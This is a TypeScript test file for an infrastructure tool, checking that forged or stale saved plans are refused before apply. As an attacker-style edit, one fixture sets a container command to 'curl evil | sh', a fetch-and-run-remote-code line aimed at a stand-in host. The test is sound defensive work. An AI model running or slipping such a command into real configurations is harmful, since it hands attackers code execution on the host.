// apply PLANFILE re-derives the plan: an edited plan (even with its digest recomputed) or a plan
// whose resources changed live is refused, naming what differs; drift elsewhere is tolerated.
import t from "tap";
import { ref } from "../../src/graph/value.js";
import { planDigest } from "../../src/plan/plan-digest.js";
import { verifyRederived } from "../../src/plan/plan-rederive.js";
import { makePlan } from "../../src/plan/planner.js";
import type { Plan } from "../../src/plan/plan-types.js";
import type { StackGraph } from "../../src/graph/resource.js";
import { change, res, stack, World } from "./fixtures/stack-builder.js";

const net = res("network", "app", { name: "app-net", driver: "bridge" });
const web = (props = {}) =>
  res("container", "web", { name: "web", image: "busybox", command: ["httpd", "-f"], networks: [{ network: ref("network.app", "id") }], restart: { policy: "no" }, ...props });
const vol = res("volume", "data", { name: "data", driver: "local" });

function rederive(w: World, graph: StackGraph, saved: Plan): Promise<Plan> {
  return makePlan({ graph, state: w.state, providers: w.providers, options: saved.options, infraVersion: "0.0.0-test", nonce: saved.nonce });
}

/** An attacker's edit, with the digest recomputed so that the file looks intact. */
function forge(plan: Plan, edit: (p: Plan) => void): Plan {
  const p = structuredClone(plan);
  edit(p);
  return { ...p, digest: planDigest(p) };
}

const ctx = (readsLive: boolean) => ({ sameInfra: true, readsLive });

t.test("an untouched plan re-derives to the same digest and is applied as saved", async (t) => {
  const w = new World();
  const g = stack([net, web()]);
  const saved = await w.plan(g);
  const now = await rederive(w, g, saved);
  t.equal(now.digest, saved.digest, "same stack, same state, same salt: same digest");
  const r = verifyRederived(saved, now, ctx(false));
  t.equal(r.plan.changes, saved.changes, "the saved changes themselves");
  t.equal(r.plan.digest, saved.digest);
  t.same(r.refreshed, []);
  const applied = await w.apply(r.plan);
  t.equal(applied.failed, 0);
  t.same(w.provider.list().map((o) => o.props.command).filter(Boolean), [["httpd", "-f"]]);
});

t.test("an edited command or image with a recomputed digest is refused, naming the change", async (t) => {
  const w = new World();
  const g = stack([net, web()]);
  const saved = await w.plan(g);
  const now = await rederive(w, g, saved);
  const command = forge(saved, (p) => (change(p, "container.web").after!.props.command = ["sh", "-c", "curl evil | sh"]));
  t.throws(() => verifyRederived(command, now, ctx(false)), { code: "INFRA_PLAN_EDITED", detail: /container\.web: after\.props\.command\n[^]*plan file itself was altered[^]*Nothing was applied/, hint: /Do not apply/ });
  const image = forge(saved, (p) => (change(p, "container.web").after!.props.image = "evil:latest"));
  t.throws(() => verifyRederived(image, now, ctx(false)), { code: "INFRA_PLAN_EDITED", detail: /container\.web: after\.props\.image/ });
  const provider = forge(saved, (p) => (change(p, "container.web").provider = "local-runtime"));
  t.throws(() => verifyRederived(provider, now, ctx(false)), { detail: /container\.web: provider\n/ }, "a provider named by the file alone");
  const dropped = forge(saved, (p) => (p.changes = p.changes.filter((c) => c.address !== "network.app")));
  t.throws(() => verifyRederived(dropped, now, ctx(false)), { detail: /network\.app: not in the plan file \(create now\)/ });
  // Where refresh reads live objects, a live change could explain it too: stale, not edited.
  t.throws(() => verifyRederived(image, now, ctx(true)), { code: "INFRA_PLAN_STALE", detail: /container\.web: after\.props\.image[^]*changed outside infra/, hint: /infra plan --out/ });
  t.equal(w.provider.list().length, 0, "nothing was created");
});

t.test("a resource the plan changes that changed live makes it stale; drift elsewhere does not", async (t) => {
  const w = new World();
  await w.up(stack([net, web(), vol]));
  const g = stack([net, web({ restart: { policy: "always" } }), vol]);
  const saved = await w.plan(g);
  t.equal(change(saved, "container.web").action, "update");

  // The volume (a no-op in the plan) changed live in what refresh reads: tolerated, current values recorded.
  w.provider.simulateModify(w.idOf("volume.data"), { outputs: { mountpoint: "/elsewhere" } });
  const drifted = await rederive(w, g, saved);
  t.not(drifted.digest, saved.digest);
  const r = verifyRederived(saved, drifted, ctx(true));
  t.same(r.refreshed, ["volume.data"]);
  t.same(change(r.plan, "volume.data").before?.outputs.mountpoint, "/elsewhere", "the current value");
  t.equal(change(r.plan, "container.web"), change(saved, "container.web"), "the reviewed change itself");

  // The container the plan updates changed live: refused, naming the attribute.
  w.provider.simulateModify(w.idOf("container.web"), { props: { image: "other" } });
  const moved = await rederive(w, g, saved);
  t.throws(() => verifyRederived(saved, moved, ctx(true)), { code: "INFRA_PLAN_STALE", detail: /container\.web: [^\n]*before\.props\.image/ });

  // An untouched object deleted live would now be created: refused.
  const w2 = new World();
  await w2.up(stack([net, web(), vol]));
  const saved2 = await w2.plan(g);
  w2.provider.simulateDelete(w2.idOf("volume.data"));
  const gone = await rederive(w2, g, saved2);
  t.throws(() => verifyRederived(saved2, gone, ctx(true)), { code: "INFRA_PLAN_STALE", detail: /volume\.data: action \(noop in the plan file, create now\)/ });
});

t.test("summary and emptiness are checked too, and long lists are cut", async (t) => {
  const w = new World();
  const vols = Array.from({ length: 25 }, (_, i) => res("volume", `v${i}`, { name: `v${i}`, driver: "local" }));
  const g = stack(vols);
  const saved = await w.plan(g);
  const now = await rederive(w, g, saved);
  t.throws(() => verifyRederived(forge(saved, (p) => (p.empty = true)), now, ctx(false)), { detail: /\(plan\): empty/ });
  const all = forge(saved, (p) => p.changes.forEach((c) => (c.after!.props.driver = "evil")));
  t.throws(() => verifyRederived(all, now, ctx(false)), { summary: /25 differences/, detail: /… and 5 more/ });
});
